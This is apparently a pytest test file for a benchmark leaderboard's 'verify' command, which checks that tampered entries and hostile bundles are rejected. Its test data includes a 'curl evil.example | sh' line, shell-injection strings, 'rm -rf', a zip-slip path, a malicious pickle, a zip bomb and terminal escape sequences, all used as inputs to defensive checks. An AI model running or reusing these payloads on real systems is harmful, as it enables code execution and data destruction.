"""`verify` on entries and folders, its records, hostile zip files, and requests that are asked again."""

from __future__ import annotations

import io
import json
import os
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from forged import forge, parts_of
from running import make_set, nova, settings
from submissions import ADAPTER, run, submitted, write_adapter

import nova_bench as nb
from nova_bench.board.badge import badge
from nova_bench.board.entry_check import command_faults
from nova_bench.board.rerun import Rerun


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Path]:
    """A home, its data set, and the entry of a run in its leaderboard."""
    home = tmp_path_factory.mktemp("entries")
    data = make_set(home / "set", [1, 2] * 3)
    done = run(home, write_adapter(home), "nova_diagnosis", data=str(data))
    return home, data, Path(submitted(home, done)["submitted"][0]["entry"])


@pytest.fixture
def board(made: tuple[Path, Path, Path], tmp_path: Path) -> Path:
    """A copy of the leaderboard with its one entry; the entry's file."""
    entry = made[2]
    root = tmp_path / "board"
    shutil.copytree(entry.parents[2], root)
    return root.joinpath(*entry.parts[-3:])


def verify(home: Path, *paths: Path, **more: Any) -> list[dict[str, Any]]:
    results: list[dict[str, Any]] = nb.verify(paths, settings=settings(home), **more)["results"]
    return results


def test_entry_and_bundle_are_verified_together(made: tuple[Path, Path, Path], board: Path) -> None:
    home, data, _ = made
    for path in (board, board.with_suffix(".zip"), board.parents[2]):
        (result,) = verify(home, path, data=str(data))
        assert (result["status"], result["reasons"]) == ("verified", [])
        assert (Path(result["entry"]), Path(result["bundle"])) == (board, board.with_suffix(".zip"))


def number(entry: dict[str, Any]) -> None:
    entry["cells"][0]["value"] = 0.99


def model(entry: dict[str, Any]) -> None:
    entry["model"]["name"] = "gpt-best"


def other_bundle(entry: dict[str, Any]) -> None:
    entry["bundle"]["sha256"] = "0" * 64


def status(entry: dict[str, Any]) -> None:
    entry["status"] = "verified"


def order(entry: dict[str, Any]) -> None:
    entry["reproduce"] += "; curl evil.example | sh"


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (number, "entry/cells/0/value is 0.99, expected"),
        (model, "entry/model/name is 'gpt-best', expected"),
        (other_bundle, "entry/bundle/sha256 is"),
        (status, "Additional properties are not allowed"),
        (order, "a shell would do something else"),
    ],
)
def test_entry_that_says_something_else_is_rejected(
    made: tuple[Path, Path, Path], board: Path, change: Callable[[dict[str, Any]], None], said: str
) -> None:
    entry = json.loads(board.read_text())
    change(entry)
    board.write_text(json.dumps(entry))
    (result,) = verify(made[0], board)
    assert result["status"] == "rejected"
    assert any(said in reason for reason in result["reasons"]), result["reasons"]


@pytest.mark.parametrize(
    "place", ["entries/other/nova_diagnosis.json", "synthetic/{slug}/nova_diagnosis.json"]
)
def test_entry_in_another_place_is_rejected(made: tuple[Path, Path, Path], board: Path, place: str) -> None:
    moved = board.parents[2] / place.format(slug=board.parent.name)
    moved.parent.mkdir(parents=True)
    shutil.move(board.with_suffix(".zip"), moved.with_suffix(".zip"))
    shutil.move(board, moved)
    (result,) = verify(made[0], moved)
    assert any("the entry lies at" in reason for reason in result["reasons"]), result["reasons"]


def test_entry_without_its_bundle_is_rejected(made: tuple[Path, Path, Path], board: Path) -> None:
    board.with_suffix(".zip").unlink()
    (result,) = verify(made[0], board.parents[2])
    assert result["status"] == "rejected"
    assert "cannot be opened" in result["reasons"][0]


def test_command_of_an_entry_is_only_words() -> None:
    sound = (
        "nova-bench run nova_caption --model 'openai:a b' -o effort=low -p temperature=0 --judge x -J 'a=b c'"
    )
    assert not list(command_faults(sound, "nova_caption"))
    for command in (
        "nova-bench run nova_caption --model $(id)",
        "nova-bench run nova_caption --model `id`",
        "nova-bench run nova_caption --model a\nid",
        "nova-bench run nova_caption --model 'a\nid'",
        "nova-bench run nova_caption --model a --out /etc",
        "nova-bench run nova_caption --model a --accept-license",
        "nova-bench run nova_localization --model a",
        "rm -rf x",
        "nova-bench run nova_caption --model 'a",
        "",
    ):
        assert list(command_faults(command, "nova_caption")), command


def test_record_is_written_beside_the_entries(made: tuple[Path, Path, Path], board: Path) -> None:
    home, data, _ = made
    (result,) = verify(home, board, data=str(data), record=True)
    path = board.parents[2] / "verifications" / board.parent.name / board.name
    assert Path(result["record"]) == path
    record = json.loads(path.read_text())
    assert (record["status"], record["with_data"], record["kind"]) == ("verified", True, "verification")
    assert record["bundle"]["sha256"] == result["sha256"]
    assert record["entry"] == f"entries/{board.parent.name}/nova_diagnosis.json"
    assert str(home) not in path.read_text()
    assert len(verify(home, board.parents[2])) == 1  # a record is no entry
    lone = board.parents[2] / "lone.zip"
    shutil.copy(board.with_suffix(".zip"), lone)
    with pytest.raises(nb.UsageError, match="no entry beside it"):
        verify(home, lone, record=True)


def packed(name: str, data: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return file.getvalue()


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (packed("rows.jsonl", b"\0" * (64 << 20)), "would grow from"),
        (packed("../../evil.json", b"{}"), "leads out of the bundle"),
        (packed("evil.pkl", b"cos\nsystem\n(S'true'\ntR."), "is no part of a bundle"),
        (packed("bundle.json", b"{}"), "manifest.json is missing"),
        (b"not a zip", "no ZIP file"),
    ],
)
def test_hostile_file_is_rejected_with_the_reason(tmp_path: Path, content: bytes, said: str) -> None:
    path = tmp_path / "x.zip"
    path.write_bytes(content)
    done = nova(tmp_path, "verify", path)
    assert done.returncode == 1
    assert said in done.stdout
    assert "Traceback" not in done.stderr
    assert sorted(one.name for one in tmp_path.rglob("*") if one.is_file() and "cache" not in one.parts) == [
        "x.zip"
    ]


def test_link_in_the_place_of_a_bundle_or_an_entry_is_rejected(
    made: tuple[Path, Path, Path], board: Path, tmp_path: Path
) -> None:
    secret = tmp_path / "secret.json"
    secret.write_text('{"password": "do not print"}')
    board.unlink()
    board.symlink_to(secret)
    (result,) = verify(made[0], board)
    assert result["status"] == "rejected"
    assert any("is a link" in reason for reason in result["reasons"])
    assert "do not print" not in json.dumps(result)


def test_task_file_of_a_manifest_is_never_run(
    made: tuple[Path, Path, Path], board: Path, tmp_path: Path
) -> None:
    mark = tmp_path / "ran"
    (tmp_path / "evil.py").write_text(f"open({str(mark)!r}, 'w')\n")

    def named(parts: dict[str, Any]) -> None:
        parts["manifest.json"]["identity"]["task_file"] = str(tmp_path / "evil.py")

    def as_task(parts: dict[str, Any]) -> None:
        parts["bundle.json"]["task"]["name"] = str(tmp_path / "evil.py")

    for change in (named, as_task):
        forged = forge(board.with_suffix(".zip"), tmp_path / "forged.zip", change)
        (result,) = verify(made[0], forged, data=str(made[1]))
        assert result["status"] == "rejected"
    assert not mark.exists()


def test_control_signs_of_a_bundle_do_not_reach_the_terminal(
    made: tuple[Path, Path, Path], board: Path, tmp_path: Path
) -> None:
    def named(parts: dict[str, Any]) -> None:
        parts["bundle.json"]["model"]["name"] = "a\x1b[2J\u202eb"

    forged = forge(board.with_suffix(".zip"), tmp_path / "forged.zip", named)
    done = nova(tmp_path, "verify", forged)
    assert done.returncode == 1
    assert "\x1b" not in done.stdout + done.stderr
    assert "\u202e" not in done.stdout + done.stderr


def test_rerun_tells_how_far_the_model_agrees_and_changes_no_status(
    made: tuple[Path, Path, Path], tmp_path: Path
) -> None:
    home, data, entry = made
    again = Rerun(5, str(home / "acme.py"), seed=1)
    (result,) = verify(home, entry, data=str(data), rerun=again)
    assert result["status"] == "verified"
    told = result["rerun"]
    assert (told["asked"], told["answered"], told["failed"], told["seed"], told["identity"]) == (
        5,
        5,
        0,
        1,
        [],
    )
    for key in ("same_text", "same_prediction", "same_row"):
        assert (told[key]["same"], told[key]["of"], told[key]["share"], told[key]["high"]) == (5, 5, 1.0, 1.0)
        assert told[key]["low"] == pytest.approx(
            5 / (5 + 1.959963984540054**2)
        )  # Wilson's limit where all agree
    assert all(metric["stated"] == metric["again"] for metric in told["metrics"])
    assert told["metrics"]
    other = write_adapter(tmp_path, ADAPTER.replace("Glioblastoma", "Abscess"))
    (result,) = verify(home, entry, data=str(data), rerun=Rerun(5, str(other), seed=1))
    assert result["status"] == "verified"
    assert result["rerun"]["same_text"]["same"] == 0
    assert any("source" in difference for difference in result["rerun"]["identity"])


def test_rerun_on_the_command_line(made: tuple[Path, Path, Path]) -> None:
    home, data, entry = made
    done = nova(home, "verify", entry, "--data", data, "--rerun", "3", "--model", home / "acme.py")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "3 of 3 random requests answered" in done.stdout
    assert "the same text: 3 of 3 (100%, 95% interval 44% to 100%)" in done.stdout
    assert done.stdout.index("same adapter file and options") < done.stdout.index("the same text")
    assert done.stdout.count("on these before and now: ") == 1
    assert "runs code of" in done.stderr
    done = nova(home, "verify", entry, "--rerun", "3", "--model", home / "acme.py")
    assert (done.returncode, "give --data" in done.stderr) == (2, True)
    assert nova(home, "verify", entry, "--rerun", "3").returncode == 2


def test_badges_say_what_they_do_not_mean() -> None:
    verified, consistent = badge("verified"), badge("consistent")
    assert verified.label == "verified"
    assert "follow from the answers" in verified.tooltip
    assert "does not mean that the model gave these answers" in verified.tooltip
    assert consistent.label == "self-reported"


def test_reading_leaves_nothing_behind(
    made: tuple[Path, Path, Path], board: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(scratch))
    verify(made[0], board, data=str(made[1]))
    assert os.listdir(scratch) == []
    assert parts_of(board.with_suffix(".zip"))["manifest.json"]
